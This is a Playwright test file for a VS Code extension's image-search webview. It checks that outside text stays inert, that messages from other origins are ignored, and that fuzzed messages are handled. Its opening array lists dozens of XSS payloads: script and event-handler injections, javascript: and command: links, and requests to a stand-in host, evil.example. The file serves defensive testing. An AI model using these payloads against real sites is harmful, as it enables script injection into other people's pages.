import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Frame } from 'playwright-core';
import { noCounts } from '../../src/shared/engine/counts';
import { emptyForm } from '../../src/shared/form/form';
import { waitingKeyword } from '../../src/shared/keywords/keywordResult';
import { plainText } from '../../src/shared/words/plainText';
import type { ListChanges, ScrapeState, Snapshot } from '../../src/shared/panel/protocol';
import { launchChromium } from '../support/chromium';
import { pickRandom, randomJson, seededRandom, type Random } from '../support/random';
import { startSite } from '../support/site';
import { emptySnapshot, openPanelPage, sourceRunOf, type PanelPage } from '../support/webviewPage';
import { isToWebview } from '../../webview/snapshot';

/** Ways to get a script to run, or a request to be made, where text is taken for markup. */
const payloads: readonly string[] = [
  '<script>window.hacked=1</script>',
  '<script src="http://evil.example/x.js"></script>',
  '</script><script>window.hacked=1</script>',
  '<ScRiPt >window.hacked=1</sCrIpT>',
  '<<script>window.hacked=1//<</script>',
  '<img src=x onerror=window.hacked=1>',
  '<img src="http://evil.example/x.png">',
  '<img/src="x"/onerror="window.hacked=1">',
  '<img src=x onerror=&#119;indow.hacked=1>',
  '<image href=x onerror=window.hacked=1>',
  '"><img src=x onerror=window.hacked=1>',
  "'><svg onload=window.hacked=1>",
  '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>',
  '<svg><script>window.hacked=1</script></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>',
  '<iframe src="javascript:window.hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="http://evil.example/"></object>',
  '<embed src="http://evil.example/">',
  '<a href="javascript:window.hacked=1">x</a>',
  '<a href="command:workbench.action.quit">x</a>',
  '<a href="http://evil.example/">x</a>',
  '<form action="http://evil.example/"><button autofocus onfocus=window.hacked=1>x</button></form>',
  '<input autofocus onfocus=window.hacked=1>',
  '<details open ontoggle=window.hacked=1>',
  '<video><source onerror=window.hacked=1></video>',
  '<audio src=x onerror=window.hacked=1>',
  '<body onload=window.hacked=1>',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<style>@import "http://evil.example/x.css";*{display:none}</style>',
  '<div style="background:url(http://evil.example/x.png)">x</div>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">',
  '<template><img src=x onerror=window.hacked=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '<!--><img src=x onerror=window.hacked=1>-->',
  '<![CDATA[><img src=x onerror=window.hacked=1>]]>',
  '<ui-text-field onclick=window.hacked=1>x</ui-text-field>',
  '<x onclick=window.hacked=1 contenteditable autofocus onfocus=window.hacked=1>',
  '{{constructor.constructor("window.hacked=1")()}}',
  '${window.hacked=1}',
  'javascript:window.hacked=1',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e',
  '[x](command:workbench.action.quit)',
  "';window.hacked=1;//",
  '`-window.hacked=1-`',
];

const done: ScrapeState & { readonly state: 'done' } = {
  state: 'done',
  outcome: 'short',
  ...noCounts,
  quantity: 50,
  seconds: 8,
  folder: 'images/cat',
  failure: null,
  warning: null,
  failures: [],
  canRetry: false,
  isWholeList: true,
};

/** Pictures of which everything is this text; one has failed, and none has a thumbnail. */
function hostileList(text: string): ListChanges {
  const failure = { code: 'not-a-picture', host: text, title: text } as const;
  const pictures = ['1', '2', '3'].map((id) => ({
    key: `${text}:${id}`,
    source: `${text}${id}`,
    via: text,
    title: text,
    creator: text,
    license: { id: text, name: text },
    hasPage: true,
    sizes: [{ width: 1024, height: 683 }],
  }));
  const tiles = pictures.map(({ key }) => ({
    key,
    thumbnail: null,
    state: { state: 'failed', failure } as const,
  }));
  return { from: 0, pictures, tiles, choice: pictures.slice(0, 1).map(({ key }) => key) };
}

describe('What strangers send to the page', () => {
  let browser: Browser;
  let panel: PanelPage;
  let requests: string[];
  let dialogs: number;
  let close: (() => Promise<void>) | undefined;

  before(async function () {
    this.timeout(300_000);
    browser = await launchChromium();
  });
  after(() => browser?.close());

  beforeEach(async () => {
    panel = await openPanelPage(browser);
    [requests, dialogs] = [[], 0];
    panel.page.on('request', (request) => requests.push(request.url()));
    panel.page.on('dialog', (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
  });
  afterEach(async () => {
    const problems = await panel.problems();
    await close?.();
    close = undefined;
    const hacked = await panel.page.evaluate(() => 'hacked' in window);
    await panel.close();
    assert.deepEqual(
      { problems, requests, dialogs, hacked },
      { problems: [], requests: [], dialogs: 0, hacked: false },
    );
  });

  /** How many elements of each kind there are, in shadows too. */
  const countElements = (): Promise<Record<string, number>> =>
    panel.page.evaluate(() => {
      const counts: Record<string, number> = {};
      const count = (root: ParentNode): void => {
        for (const element of root.querySelectorAll('*')) {
          counts[element.localName] = (counts[element.localName] ?? 0) + 1;
          if (element.shadowRoot) count(element.shadowRoot);
        }
      };
      count(document);
      return counts;
    });

  /** Everywhere that outside text comes to the page, in each of its states. */
  const hostileSnapshots = (text: string): readonly Partial<Snapshot>[] => {
    const failure = { code: 'not-a-picture', host: text, title: text } as const;
    const common = {
      formRevision: 2,
      form: { ...emptyForm, keyword: text, addresses: text, find: '1', folder: text, quantity: '1' },
      recent: [text, 'fox'],
      roots: [
        { name: text, path: text },
        { name: 'b', path: '/b' },
      ],
      searched: text,
      found: 3,
      sources: [{ id: 'pexels', name: text, apiKeyState: 'missing', isEnabled: true }],
      notices: [
        {
          name: text,
          text,
          isRequired: true,
          url: `https://example.org/?${text}`,
          terms: `https://example.org/?${text}`,
        },
      ],
    } as const;
    const sourceRuns = [
      sourceRunOf({ name: text, state: 'running', found: 0 }),
      sourceRunOf({ name: text, source: 'page', state: 'failed', failure }),
      sourceRunOf({ name: text, source: 'pexels', state: 'needs-key', failure }),
    ];
    return [
      {
        ...common,
        search: { state: 'running', title: text, found: 0, targetCount: 3, sourceRuns },
      },
      { ...common, search: { state: 'running', title: text, found: 0, targetCount: null, sourceRuns: [] } },
      {
        ...common,
        search: { state: 'done', title: text, outcome: 'failed', found: 0, failure, sourceRuns },
      },
      {
        ...common,
        found: 0,
        search: {
          state: 'done',
          title: text,
          outcome: 'nothing',
          found: 0,
          failure: null,
          sourceRuns,
        },
      },
      {
        ...common,
        search: {
          state: 'done',
          title: text,
          outcome: 'no-more',
          found: 0,
          failure: null,
          sourceRuns,
        },
      },
      {
        ...common,
        scrape: {
          state: 'running',
          ...noCounts,
          quantity: 3,
          folder: text,
          paused: { host: text, seconds: 3 },
          isHeld: false,
          loading: 0,
          perSecond: null,
        },
      },
      {
        ...common,
        scrape: {
          ...done,
          failed: 2,
          folder: text,
          failure,
          warning: failure,
          failures: [
            { key: `${text}:1`, name: text, failure },
            { key: 'flickr:2', name: text, failure: { code: 'timeout', host: text } },
          ],
        },
      },
      { ...common, scrape: { state: 'interrupted', quantity: 3, folder: text } },
      {
        ...common,
        form: { ...common.form, keywordList: { keywords: text, quantity: '3', folder: text } },
        keywordRun: {
          isRunning: false,
          results: [
            {
              ...waitingKeyword({ keyword: text, folder: text, quantity: 3 }),
              saved: 1,
              found: 2,
              outcome: 'short',
              failure,
            },
          ],
        },
      },
      { ...common, form: { ...common.form, folder: null }, scrape: { ...done, saved: 3, folder: text } },
    ];
  };

  it('stays text in every place: no script, no element, no request', async function () {
    this.timeout(60_000);
    const plain: Record<string, number>[] = [];
    await panel.show({ found: 3 }, hostileList('words'));
    await panel.page.getByRole('button', { name: 'Filters' }).click();
    // What is made when it is first needed is there before anything is counted.
    for (const place of hostileSnapshots('words')) await panel.show(place, hostileList('words'));
    for (const place of hostileSnapshots('words')) {
      await panel.show(place, hostileList('words'));
      plain.push(await countElements());
    }
    for (const payload of payloads) {
      for (const [at, place] of hostileSnapshots(payload).entries()) {
        await panel.show(place, hostileList(payload));
        assert.deepEqual(await countElements(), plain[at], payload);
        if (place.scrape?.state !== 'done' || place.scrape.failures.length === 0) continue;
        const [item = ''] = await panel.page.locator('.failures li').allTextContents();
        assert.ok(item.startsWith(`${plainText(payload)}: `), item);
      }
    }
  });

  it('is short, on one line and in the order it is written', async () => {
    const text = `cat\u202Egpj\n${'x'.repeat(100_000)}`;
    for (const place of hostileSnapshots(text.slice(0, 400))) {
      await panel.show({ ...place, roots: [], form: emptyForm }, hostileList(text.slice(0, 400)));
      const shown = await panel.page.evaluate(() => document.body.innerText);
      assert.doesNotMatch(shown, /[\u202A-\u202E]|x{200}/);
    }
    await panel.show({
      scrape: {
        ...done,
        failed: 1,
        failures: [{ key: text, name: text, failure: { code: 'empty', host: text } }],
      },
    });
    const [item = ''] = await panel.page.locator('.failures li').allTextContents();
    assert.match(item, /^catgpj x+…: catgpj x+… sent an empty answer\.$/);
  });

  it('is not listened to when it comes from another page', async () => {
    // A page of another origin that has the panel in a frame, as only VS Code should.
    const site = await startSite((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(`<iframe src="${panel.page.url()}"></iframe>`);
    });
    close = () => site.close();
    const outside = await panel.page.context().newPage();
    await outside.goto(site.url);
    const frame = outside.frames().find((each: Frame) => each.url() === panel.page.url());
    assert.ok(frame);
    await frame.waitForFunction(() => window.posted?.length === 1);
    const heard = frame.evaluate(
      () =>
        new Promise<string>((resolve) =>
          window.addEventListener('message', ({ origin }) => resolve(origin), { once: true }),
        ),
    );
    const listChanges = { from: 0, pictures: [], tiles: [] };
    const message = {
      type: 'update',
      snapshot: { ...emptySnapshot, found: 7 },
      editCount: 0,
      looked: null,
      listChanges,
    };
    await outside.evaluate((sent) => window.frames[0]?.postMessage(sent, '*'), message);
    assert.equal(await heard, site.url);
    assert.equal(await frame.evaluate(() => document.body.hidden), true, 'the page shows nothing yet');

    await frame.evaluate((sent) => window.postMessage(sent, '*'), message);
    await frame.waitForFunction(() => !document.body.hidden);
  });

  /** Without waiting for what the page makes of each. */
  async function dispatchAll(messages: readonly unknown[]): Promise<void> {
    await panel.page.evaluate((text) => {
      for (const data of JSON.parse(text) as unknown[]) {
        window.dispatchEvent(new MessageEvent('message', { data, origin: window.origin }));
      }
    }, JSON.stringify(messages));
  }

  it('does not move the page, though ten thousand messages make no sense', async () => {
    await panel.show({
      found: 5,
      search: {
        state: 'done',
        title: 'cat',
        outcome: 'found',
        found: 5,
        failure: null,
        sourceRuns: [sourceRunOf()],
      },
    });
    const random = seededRandom(7);
    const messages = Array.from({ length: 10_000 }, () => randomJson(random));
    await dispatchAll(messages);
    assert.equal(await panel.page.getByRole('status').textContent(), 'Found 5 pictures');
  });

  it('is drawn without an error wherever it is of the right shape', async () => {
    const random = seededRandom(8);
    const whole = hostileSnapshots('words').map((place) => ({
      type: 'update',
      snapshot: { ...emptySnapshot, ...place },
      editCount: 0,
      looked: null,
      listChanges: hostileList('words'),
    }));
    const messages = Array.from({ length: 10_000 }, () => mutatedMessage(pickRandom(random, whole), random));
    const accepted = messages.filter(isToWebview);
    assert.ok(accepted.length > 300 && accepted.length < 9_700, `${accepted.length} of 10,000 were accepted`);
    await dispatchAll(accepted);
    await panel.show({});
    assert.equal(await panel.page.getByRole('status').textContent(), 'Ready');
  });
});

describe('The page’s own script', () => {
  it('keeps the way to the extension to itself, and writes no links of its own', () => {
    // The text of the script, because no state of the page shows that something is made in none.
    const script = readFileSync(join(__dirname, '../../dist/webview.js'), 'utf8');
    assert.equal(script.split('acquireVsCodeApi').length - 1, 1, 'asked for in one place');
    assert.match(script, /^"use strict";\s*\(\(\)\s*=>\s*\{/, 'nothing of it is global');
    assert.doesNotMatch(script, /command:|createElement\("a"\)/);
    // It stands in the page itself, and what ended it there would be shown as text.
    assert.doesNotMatch(script, /<\/?script/i);
  });
});

/** A message with one part, at any depth, changed or left out. */
function mutatedMessage(value: unknown, random: Random): unknown {
  if (typeof value !== 'object' || value === null) return randomJson(random);
  const entries = Object.entries(value) as [string, unknown][];
  const at = Math.floor(random() * entries.length);
  const rest = random() < 0.1 ? entries.filter((_, index) => index !== at) : entries;
  const changed = rest.map(
    ([name, inner], index) => [name, index === at ? mutatedMessage(inner, random) : inner] as const,
  );
  return Array.isArray(value) ? changed.map(([, inner]) => inner) : Object.fromEntries(changed);
}
